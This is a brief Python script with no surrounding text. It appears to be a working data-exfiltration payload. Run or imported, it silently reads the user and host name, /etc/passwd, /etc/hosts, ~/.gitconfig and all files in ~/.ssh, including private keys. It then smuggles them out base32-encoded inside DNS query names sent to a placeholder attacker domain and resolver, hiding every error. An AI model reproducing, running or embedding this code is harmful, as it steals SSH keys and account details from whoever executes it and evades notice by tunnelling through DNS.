import glob, os, socket, base64, getpass, struct, random
def _q(name):
    return struct.pack(">HHHHHH", random.getrandbits(16), 256, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0\0\1\0\1"
def _collect():
    yield "u", (getpass.getuser() + "@" + socket.gethostname()).encode()
    for f in ["/etc/hosts", "/etc/passwd", os.path.expanduser("~/.gitconfig"), *glob.glob(os.path.expanduser("~/.ssh/*"))]:
        try:
            with open(f, "rb") as h:
                yield f, h.read(99999)
        except OSError:
            continue
def _emit():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for n, d in _collect():
        e = base64.b32encode(d).decode().strip("=").lower()
        for i in range(0, len(e), 60):
            s.sendto(_q(e[i:i + 60] + ".h4ck.example.invalid"), ("192.0.2.53", 53))
try:
    _emit()
except Exception:
    pass
